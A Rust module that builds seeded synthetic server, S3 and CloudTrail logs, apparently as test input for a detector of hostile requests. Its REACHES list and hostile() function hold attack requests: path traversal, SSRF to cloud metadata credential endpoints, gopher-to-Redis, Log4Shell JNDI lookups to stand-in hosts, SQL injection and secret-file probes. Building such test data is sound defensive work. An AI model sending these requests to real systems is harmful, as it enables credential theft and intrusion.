//! Logs that never were, made from a seed.
//!
//! A log here is what a server's log is: ordinary requests of many clients, scanners and thieves among them whose
//! requests fail and succeed, lines that are no records, empty lines. It is written in one format, with lines of other
//! formats strewn in where the mix asks for them, as logs change their format in the middle of a file.

/// Numbers that are the same everywhere for one seed (splitmix64).
pub(crate) struct Dice(u64);

impl Dice {
    pub(crate) fn new(seed: u64) -> Dice {
        Dice(seed)
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        mixed ^ (mixed >> 31)
    }

    /// A number below `end`.
    pub(crate) fn below(&mut self, end: usize) -> usize {
        (self.next() % end as u64) as usize
    }

    pub(crate) fn one_in(&mut self, many: usize) -> bool {
        self.below(many) == 0
    }

    pub(crate) fn pick<'a, T>(&mut self, choices: &'a [T]) -> &'a T {
        &choices[self.below(choices.len())]
    }
}

/// How a line is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Writing {
    Common,
    Combined,
    Extended,
    VirtualHost,
    NginxJson,
    Caddy,
    S3,
    CloudTrail,
    Alb,
}

/// All ways of writing.
pub(crate) const WRITINGS: [Writing; 8] = [
    Writing::Common,
    Writing::Combined,
    Writing::Extended,
    Writing::VirtualHost,
    Writing::NginxJson,
    Writing::Caddy,
    Writing::S3,
    Writing::CloudTrail,
];

/// A request that is to be written.
#[derive(Clone, Debug)]
pub(crate) struct Hit {
    pub(crate) seconds: u64,
    pub(crate) client: String,
    pub(crate) method: &'static str,
    pub(crate) target: String,
    pub(crate) status: u16,
    pub(crate) bytes: u64,
    pub(crate) referer: String,
    pub(crate) agent: String,
}

impl Hit {
    /// A request of an ordinary browser, answered.
    pub(crate) fn new(seconds: u64, client: &str, target: &str, status: u16, bytes: u64) -> Hit {
        Hit {
            seconds,
            client: client.to_owned(),
            method: "GET",
            target: target.to_owned(),
            status,
            bytes,
            referer: "-".to_owned(),
            agent: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".to_owned(),
        }
    }
}

/// One line, without its end.
pub(crate) fn line(hit: &Hit, writing: Writing) -> String {
    let Hit { seconds, client, method, target, status, bytes, referer, agent } = hit;
    let (day, hour, minute, second) = (1 + seconds / 86_400 % 30, seconds / 3600 % 24, seconds / 60 % 60, seconds % 60);
    let clf = format!("{day:02}/Jun/2024:{hour:02}:{minute:02}:{second:02} +0000");
    let iso = format!("2024-06-{day:02}T{hour:02}:{minute:02}:{second:02}Z");
    let common = format!("{client} - - [{clf}] \"{method} {target} HTTP/1.1\" {status} {bytes}");
    let json = |text: &str| serde_json::to_string(text).expect("a text is JSON");
    match writing {
        Writing::Common => common,
        Writing::Combined => format!("{common} \"{referer}\" \"{agent}\""),
        Writing::Extended => {
            format!("{common} \"{referer}\" \"{agent}\" \"203.0.113.9, 192.0.2.1\" 0.0{}", bytes % 90 + 10)
        }
        Writing::VirtualHost => format!("shop.example:443 {common} \"{referer}\" \"{agent}\""),
        Writing::NginxJson => format!(
            "{{\"time_iso8601\":\"{iso}\",\"remote_addr\":{},\"request\":{},\"status\":\"{status}\",\"body_bytes_sent\":\"{bytes}\",\"http_referer\":{},\"http_user_agent\":{},\"request_time\":\"0.042\"}}",
            json(client),
            json(&format!("{method} {target} HTTP/1.1")),
            json(referer),
            json(agent)
        ),
        Writing::Caddy => format!(
            "{{\"level\":\"info\",\"ts\":\"{iso}\",\"msg\":\"handled request\",\"request\":{{\"remote_ip\":{},\"proto\":\"HTTP/2.0\",\"method\":\"{method}\",\"host\":\"shop.example\",\"uri\":{},\"headers\":{{\"User-Agent\":[{}],\"Referer\":[{}]}}}},\"duration\":0.0021,\"size\":{bytes},\"status\":{status}}}",
            json(client),
            json(target),
            json(agent),
            json(referer)
        ),
        Writing::Alb => format!(
            "https {iso} app/web/50dc6c495c0c9188 {client}:34712 10.0.0.7:80 0.001 0.042 0.000 {status} {status} 421 {bytes} \"{method} https://api.service.example:443{target} HTTP/1.1\" \"{agent}\" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-central-1:111122223333:targetgroup/web/73e2d6bc24d8a067 \"Root=1-58337262-36d228ad5d99923122bbe354\" \"api.service.example\" \"-\" 0 {iso} \"forward\" \"-\" \"-\" \"10.0.0.7:80\" \"{status}\" \"-\" \"-\""
        ),
        Writing::S3 => format!(
            "79a59df9 shop-uploads [{clf}] {client} {} 3E57427F3EXAMPLE REST.GET.OBJECT key \"{method} {target} HTTP/1.1\" {status} - {bytes} {bytes} 70 10 \"{referer}\" \"{agent}\" - host-id= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader shop-uploads.s3.amazonaws.com TLSv1.2 - -",
            principal(*bytes)
        ),
        Writing::CloudTrail => format!(
            "{{\"userIdentity\":{{\"arn\":\"{}\",\"accountId\":\"111122223333\",\"accessKeyId\":\"ASIA{:016}\"}},\"eventTime\":\"{iso}\",\"eventSource\":\"s3.amazonaws.com\",\"eventName\":\"{}\",\"awsRegion\":\"eu-west-1\",\"sourceIPAddress\":\"{client}\",\"userAgent\":{}{},\"requestParameters\":{{\"bucketName\":\"shop-uploads\",\"key\":{}}}}}",
            principal(*bytes),
            seconds / 21_600,
            ["GetObject", "ListObjects", "ListBuckets", "GetSecretValue", "CreateAccessKey"][(bytes % 5) as usize],
            json(agent),
            if 400 <= *status { ",\"errorCode\":\"AccessDenied\"" } else { "" },
            json(target)
        ),
    }
}

/// Who calls a service of the cloud.
fn principal(bytes: u64) -> &'static str {
    match bytes % 7 {
        0 => "arn:aws:iam::111122223333:user/ops",
        1 | 2 => "arn:aws:sts::111122223333:assumed-role/backup/nightly",
        _ => "arn:aws:sts::111122223333:assumed-role/shop-web/i-0a1b2c3d4e5f60718",
    }
}

/// What a log is made of.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Mix {
    pub(crate) seed: u64,
    pub(crate) lines: usize,
    pub(crate) writing: Writing,
    /// Whether lines of other formats stand among them.
    pub(crate) is_mixed: bool,
}

/// Three hundred users of a service, each with the pages around four orders of their own: client, target, status, bytes.
pub(crate) fn with_orders(put: &mut dyn FnMut(&str, &str, u16, u64)) {
    for user in 0..300_u64 {
        let client = format!("203.0.{}.{}", user / 200, user % 200);
        for page in ["/", "/api/me", "/api/settings", "/search", "/cart", "/help", "/news", "/api/orders"] {
            put(&client, page, 200, 20_000 + user * 7);
        }
        for order in 0..4 {
            let number = (user * 7_919 + order * 104_729) % 40_000 + 100_000;
            put(&client, &format!("/api/orders/{number}"), 200, 1_800 + number % 900);
            put(&client, &format!("/products/{}", number % 30), 200, 30_000 + number % 9_000);
        }
    }
}

/// A log of that mix. Its opening lines are records, so that its format is known.
pub(crate) fn log(mix: Mix) -> Vec<u8> {
    let mut dice = Dice::new(mix.seed);
    let mut out = Vec::new();
    let mut seconds = dice.below(86_400) as u64;
    for number in 0..mix.lines {
        seconds += dice.below(40) as u64;
        if 20 < number && dice.one_in(40) {
            out.extend_from_slice(no_record(&mut dice));
            continue;
        }
        let writing = if mix.is_mixed && dice.one_in(12) { *dice.pick(&WRITINGS) } else { mix.writing };
        let hit = if dice.one_in(6) { hostile(&mut dice, seconds) } else { ordinary(&mut dice, seconds) };
        out.extend_from_slice(line(&hit, writing).as_bytes());
        out.extend_from_slice(if dice.one_in(30) { b"\r\n" } else { b"\n" });
    }
    if dice.one_in(2) {
        // Not every log ends with a line feed.
        out.pop();
    }
    out
}

fn no_record(dice: &mut Dice) -> &'static [u8] {
    let lines: [&[u8]; 9] = [
        b"\n",
        b"  \t \n",
        b"\r\n",
        b"2024/06/01 00:00:00 [error] 17#17: *1 open() failed\n",
        b"\x16\x03\x01\x02\x00\x01\xff\xfe\n",
        b"\0\0\0\0\0\n",
        b"192.0.2.1 - - [01/Jun/2024:00:00\n",
        b"{\"status\":200,\n",
        b"#Fields: date time\n",
    ];
    lines[dice.below(lines.len())]
}

fn client(dice: &mut Dice) -> String {
    match dice.below(3) {
        0 => format!("198.51.100.{}", dice.below(12)),
        1 => format!("203.0.{}.{}", dice.below(120), dice.below(250)),
        _ => format!("2001:db8::{:x}", dice.below(4000)),
    }
}

fn ordinary(dice: &mut Dice, seconds: u64) -> Hit {
    let (target, status, bytes) = match dice.below(10) {
        0 => ("/".to_owned(), 200, 16_500 + dice.below(40)),
        1 => (format!("/products/{}", dice.below(300)), 200, 6_000 + dice.below(30_000)),
        2 => (format!("/assets/app.{:x}.js", dice.below(9)), 200, 88_000),
        3 => {
            let picture = format!("https%3A%2F%2Fcdn.shop.example%2Fp%2F{}.jpg", dice.below(400));
            (format!("/media/proxy?src={picture}&w=640"), 200, 5_000 + dice.below(90_000))
        }
        4 => ("/api/settings?fields=name,logo,locale".to_owned(), 200, 700 + dice.below(9)),
        5 => (format!("/missing/{}", dice.below(90)), 404, 1_532),
        6 => ("/config.json".to_owned(), 200, 412),
        7 => (format!("/login?next=%2Faccount%2F{}", dice.below(30)), 302, 0),
        8 => (format!("/preview?url=https://page{}.example/a", dice.below(60)), 200, 900 + dice.below(200)),
        _ => (format!("/search?q=salmon+{}", dice.below(70)), 200, 7_000 + dice.below(9_000)),
    };
    Hit {
        referer: "https://shop.example/".to_owned(),
        ..Hit::new(seconds, &client(dice), &target, status, bytes as u64)
    }
}

/// Targets that reach for something, of every kind the signals know.
pub(crate) const REACHES: [&str; 36] = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.aws/credentials",
    "/wp-config.php.bak",
    "/backup.sql.gz",
    "/actuator/env",
    "/actuator/heapdump",
    "/debug/vars",
    "/config.json",
    "/config/database.yml",
    "/server.log",
    "/.DS_Store",
    "/.hidden",
    "/index.php?file=../../../../etc/passwd",
    "/index.php?file=..%252f..%252f..%252fetc%252fpasswd",
    "/static/..%2f..%2f..%2fproc/self/environ",
    "/download?name=....//....//app/.env",
    "/media/proxy?src=http://169.254.169.254/latest/meta-data/",
    "/media/proxy?src=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
    "/media/proxy?src=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2Fshop-web-role",
    "/media/proxy?src=http://0xa9fea9fe/latest/user-data",
    "/media/proxy?src=http://2852039166/latest/",
    "/media/proxy?src=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "/media/proxy?src=http://127.0.0.1:6379/",
    "/media/proxy?src=gopher://127.0.0.1:6379/_INFO",
    "/media/proxy?src=file:///etc/shadow",
    "/preview?url=http://abc.oast.fun/x",
    "/preview?url=http://10.0.0.7:9200/_cat/indices",
    "/api/settings?fields=name,aws_secret_access_key",
    "/api/settings?fields=*",
    "/graphql?query={users{apiKey,password}}",
    "/?x=${jndi:ldap://203.0.113.9/a}",
    "/item?id=1+union+select+password+from+users",
    "/callback?token=ghp_aaaaaaaaaabbbbbbbbbbccccccccccdddddd",
    "/latest/meta-data/iam/security-credentials/",
];

fn hostile(dice: &mut Dice, seconds: u64) -> Hit {
    let target = *dice.pick(&REACHES);
    let (status, bytes) = *dice.pick(&[
        (404, 1_532),
        (404, 1_532),
        (403, 153),
        (200, 14),
        (200, 211),
        (200, 1_338),
        (200, 16_512),
        (302, 0),
        (500, 0),
        (206, 4_096),
    ]);
    let client = if dice.one_in(3) { client(dice) } else { format!("192.0.2.{}", dice.below(6)) };
    let agent =
        dice.pick(&["curl/8.5", "python-requests/2.31", "${jndi:ldap://192.0.2.1/a}", "Mozilla/5.0 zgrab/0.x", "-"]);
    Hit { agent: (*agent).to_owned(), ..Hit::new(seconds, &client, target, status, bytes) }
}
